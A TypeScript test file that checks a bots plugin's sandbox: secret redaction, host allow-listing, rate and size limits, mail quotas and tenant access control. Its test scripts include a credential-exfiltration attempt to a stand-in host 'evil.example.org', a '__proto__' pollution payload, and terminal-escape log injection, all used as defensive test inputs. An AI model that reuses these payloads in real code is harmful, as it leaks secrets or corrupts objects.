import { randomUUID } from 'node:crypto'
import t from 'tap'
import { startTestPlatform } from '#core/testing/index.ts'
import { makeBotsPlugin } from '#plugins/bots/index.ts'
import { mailQuota } from '#plugins/bots/runs/calls/mail-quota.ts'
import { bundledPlugins } from '#plugins/bundled.ts'
import { botAtWork } from './bot-at-work.ts'
import { smallInternet } from './small-internet.ts'

const heard: { url: string; authorization: string; body: string }[] = []
const internet = await smallInternet(async (request, response) => {
  let body = ''
  for await (const chunk of request) body += chunk
  const authorization = String(request.headers.authorization ?? '')
  heard.push({ url: request.url!, authorization, body })
  response
    .setHeader('x-echo', authorization)
    .end(
      JSON.stringify({ authorization, base64: Buffer.from(authorization.replace('Bearer ', '')).toString('base64') }),
    )
})
internet.names.set('api.example.org', ['93.184.215.14'])
const others = bundledPlugins.filter(({ id }) => id !== 'bots')
const platform = await startTestPlatform({ plugins: [...others, makeBotsPlugin({ network: internet })] })
t.teardown(async () => {
  await platform.close()
  await internet.close()
})
const club = async () => {
  const tenant = await platform.tenant('Club')
  return { platform, tenant, admin: await tenant.admin() }
}
const secret = 'sk-live-Ünique/7f3a9+b'.replace('Ü', 'U')
const everything = (at: Awaited<ReturnType<typeof club>>) =>
  at.tenant.unit(async (tx) => {
    const rows: unknown[] = []
    for (const table of ['run', 'call', 'log', 'state', 'config_version', 'installation'])
      rows.push(...(await tx.query(`SELECT * FROM bots.${table} WHERE tenant_id = $1`, [tx.tenantId])))
    return JSON.stringify(rows)
  })

t.test('79: a secret reaches a header of a host that was agreed to, and nothing else, echoes included', async (t) => {
  const at = await club()
  const bot = await botAtWork(
    at,
    `const h = ctx.secrets.apiKey
     const answer = await ctx.fetch('https://api.example.org/?k=' + h, { method: 'POST', headers: { authorization: 'Bearer ' + h }, body: h })
     ctx.log('answer ' + answer.body, { h, answer })
     await ctx.state.set('k', { h, answer })
     let other = 'sent'
     try { await ctx.fetch('https://evil.example.org/', { headers: { authorization: h } }) } catch (e) { other = e.code }
     return { h, answer, other, config: ctx.config }`,
    {
      config: {
        schema: {
          type: 'object',
          properties: { apiKey: { type: 'string', title: 'Key', format: 'secret', maxLength: 200 } },
        },
      },
      permissions: { actions: [], hosts: ['api.example.org'] },
    },
    { config: { apiKey: secret } },
  )
  const run = await bot.run()
  t.match(run, { status: 'ok', result: { other: 'FORBIDDEN' } })
  t.equal(heard.length, 1)
  t.equal(heard[0]!.authorization, `Bearer ${secret}`)
  t.notMatch(heard[0]!.url + heard[0]!.body, secret)
  const { answer } = run.result as { answer: { body: string; headers: Record<string, string> } }
  t.match(answer.body, '[secret]')
  t.equal(answer.headers['x-echo'], 'Bearer [secret]')
  const stored = (await everything(at)) + JSON.stringify(run)
  t.notOk(stored.includes(secret))
  t.notOk(stored.includes(Buffer.from(secret).toString('base64')))
})

t.test('82: what a run may call and say has an end', async (t) => {
  const at = await club()
  const bot = await botAtWork(
    at,
    `const codes = {}
     const note = async (name, f) => { try { await f(); codes[name] = 'ok' } catch (e) { codes[name] = e.code } }
     for (let i = 0; i < 3; i++) await note('action' + i, () => ctx.call('members.list', {}))
     await note('fetch', () => ctx.fetch('https://api.example.org/'))
     ctx.log('line \\u001b[31mred\\u001b[0m <b>x</b>\\u202e')
     ctx.log('y'.repeat(10000))
     return { codes }`,
    {
      permissions: { actions: ['members.list'], hosts: ['api.example.org'] },
      limits: { actions: 2, fetches: 0 },
    },
  )
  const run = await bot.run()
  t.match(
    run.result,
    { codes: { action0: 'ok', action1: 'ok', action2: 'LIMIT', fetch: 'LIMIT' } },
    JSON.stringify(run.error),
  )
  t.equal(run.logs[0]!.message, 'line red <b>x</b>\ufffd')
  t.ok(Buffer.byteLength(run.logs[1]!.message) <= 2048)
})

t.test('63, 64: a flood of lines or calls ends the run, and little of it is kept', async (t) => {
  const at = await club()
  const bot = await botAtWork(
    at,
    `if (event.input.how === 'lines') for (let i = 0; i < 100000; i++) ctx.log('line ' + i)
     if (event.input.how === 'calls') for (let i = 0; i < 100000; i++) ctx.state.set('k' + i, i).catch(() => {})
     if (event.input.how === 'loop') for (;;) await ctx.state.get('k').catch((e) => { throw e })`,
    {
      triggers: {
        manual: { input: { type: 'object', properties: { how: { type: 'string', title: 'How', maxLength: 9 } } } },
      },
    },
  )
  for (const how of ['lines', 'calls', 'loop']) {
    const run = await bot.run({ input: { how } })
    t.ok(run.logs.length <= 202, `${how}: ${run.logs.length} lines`)
    t.ok(run.calls.length <= 420, `${how}: ${run.calls.length} calls`)
    t.comment(how, run.status, run.ended, run.reason)
  }
  t.match(await bot.run({ input: { how: 'nothing' } }), { status: 'ok' })
})

t.test('66: state has a size a key, a value and in all, over runs, and forgets what has run out', async (t) => {
  const at = await club()
  const bot = await botAtWork(
    at,
    `const codes = {}
     const note = async (name, f) => { try { await f(); codes[name] = 'ok' } catch (e) { codes[name] = e.code } }
     const { from } = event.input
     for (let i = from; i < from + 9; i++) await note('t' + i, () => ctx.state.set('t' + i, 'x'.repeat(60000)))
     if (from === 0) {
       await note('key', () => ctx.state.set('k'.repeat(129), 1))
       await note('proto', () => ctx.state.set('__proto__', { constructor: { prototype: { polluted: 1 } } }))
       await note('short', () => ctx.state.set('short', 1, { ttlSeconds: 10 }))
     }
     await note('tooLarge', () => ctx.state.set('k', 'x'.repeat(70000)))
     return { codes, keys: await ctx.state.keys(), t: await ctx.state.keys('t1') }`,
    { triggers: { manual: { input: { type: 'object', properties: { from: { type: 'integer', title: 'From' } } } } } },
  )
  const first = await bot.run({ input: { from: 0 } })
  t.match(
    first.result,
    { codes: { t0: 'ok', t8: 'ok', key: 'LIMIT', proto: 'ok', tooLarge: 'LIMIT' } },
    JSON.stringify(first.error),
  )
  t.ok((first.result as { keys: string[] }).keys.includes('short'))
  t.notOk(({} as { polluted?: unknown }).polluted)
  platform.clock.advance(11_000)
  const second = await bot.run({ input: { from: 10 } })
  const { codes, keys } = second.result as { codes: Record<string, string>; keys: string[] }
  t.equal(codes.t10, 'ok')
  t.equal(codes.t18, 'LIMIT')
  t.notOk(keys.includes('short'))
})

t.test('67: mails of an organisation are counted across runs at once, and an undone one does not count', async (t) => {
  const at = await club()
  const quota = mailQuota({ mailsADay: 5, mailsADayOfOneBot: 5 }, randomUUID())
  const taken = await Promise.allSettled(Array.from({ length: 12 }, () => at.tenant.unit((tx) => quota.take(tx))))
  t.equal(taken.filter(({ status }) => status === 'fulfilled').length, 5)
  const [row] = await at.tenant.unit((tx) =>
    tx.query('SELECT sum(mails)::int AS n FROM bots.mail_hour WHERE tenant_id = $1', [tx.tenantId]),
  )
  t.same(row, { n: 5 })
  platform.clock.advance(25 * 3_600_000)
  const small = mailQuota({ mailsADay: 5, mailsADayOfOneBot: 0 }, randomUUID())
  await t.rejects(
    at.tenant.unit((tx) => small.take(tx)),
    { code: 'LIMIT', message: /One bot .* at most 0 mails/ },
    'one bot leaves the others theirs',
  )
  await t.rejects(
    at.tenant.unit(async (tx) => {
      await quota.take(tx)
      throw new Error('the mail was not written')
    }),
  )
  for (let n = 0; n < 5; n++) await at.tenant.unit((tx) => quota.take(tx))
  await t.rejects(
    at.tenant.unit((tx) => quota.take(tx)),
    { code: 'LIMIT' },
  )
})

t.test(
  '9, 11: a call beside the methods of the host is refused, and after its end a run does nothing more',
  async (t) => {
    const at = await club()
    const bot = await botAtWork(
      at,
      `ctx.call('members.create', { firstName: 'Late', lastName: 'One' }); ctx.state.set('late', 1).catch(() => {})
     return { summary: 'left early' }`,
      { permissions: { actions: ['members.create'] } },
    )
    t.equal((await bot.run()).status, 'ok')
    const members = async () => (await at.admin.get('/api/v1/members')).json().items.length
    const after = await members()
    t.ok(after <= 1)
    await platform.settle()
    t.equal(await members(), after)
  },
)

t.test(
  '81: who sees runs but not members sees no member in a trace, and another organisation sees nothing',
  async (t) => {
    const at = await club()
    const memberId = (await at.admin.post('/api/v1/members', { firstName: 'Secretive', lastName: 'Lovelace' })).json()
      .id
    const bot = await botAtWork(
      at,
      `const m = await ctx.call('members.get', { memberId: '${memberId}' }); return { ok: m.id === '${memberId}' }`,
      {
        triggers: { manual: {}, action: { target: 'member' } },
        permissions: { actions: ['members.get'] },
      },
    )
    const run = await bot.run()
    t.match(JSON.stringify(run.calls), 'Secretive')
    const clerk = await at.tenant.as({ permissions: ['bots.read'] })
    const seen = await clerk.get(`/api/v1/bot-runs/${run.id}`)
    t.equal(seen.statusCode, 200)
    t.notMatch(seen.body, 'Secretive')
    t.equal((await clerk.post(`/api/v1/bot-runs/${run.id}/rerun`)).statusCode, 403)
    const tried = await bot.run({ dryRun: true, target: { type: 'member', id: memberId } })
    t.match(tried.trigger, { target: { id: memberId } })
    t.same(
      (await clerk.get(`/api/v1/bot-runs/${tried.id}`)).json().trigger,
      { trigger: 'action' },
      'nor whom it is about',
    )
    const stranger = (await club()).admin
    for (const url of [`/bot-runs/${run.id}`, '/bots/worker/runs', '/bots/worker/logs', '/bots/worker/statistics'])
      t.equal((await stranger.get(`/api/v1${url}`)).statusCode, 404, url)
    t.equal((await stranger.post(`/api/v1/bot-runs/${run.id}/replay`)).statusCode, 404)
  },
)

t.test('logs are filtered, paged and searched', async (t) => {
  const at = await club()
  const bot = await botAtWork(at, `ctx.log('Alpha'); ctx.log('beta'); ctx.log('ALPHA two'); throw new Error('gamma')`)
  const run = await bot.run()
  const logs = async (query: string) => {
    const answer = await at.admin.get(`/api/v1/bots/worker/logs?${query}`)
    t.equal(answer.statusCode, 200, answer.body)
    return answer.json()
  }
  t.equal((await logs('')).items.length, 4)
  t.same(
    (await logs('level=error')).items.map(({ level }: { level: string }) => level),
    ['error'],
  )
  t.equal((await logs('search=alpha')).items.length, 2)
  t.equal((await logs(`run=${run.id}&level=info`)).items.length, 3)
  t.equal((await logs('since=2100-01-01T00:00:00Z')).items.length, 0)
  const first = await logs('limit=3')
  t.equal((await logs(`limit=3&cursor=${first.page.nextCursor}`)).items.length, 1)
  const { rows } = (await at.admin.get('/api/v1/analytics/bots')).json() as { rows: object[] }
  t.ok(rows.length >= 3)
  t.match(JSON.stringify(rows), /botRuns.*failed/)
})
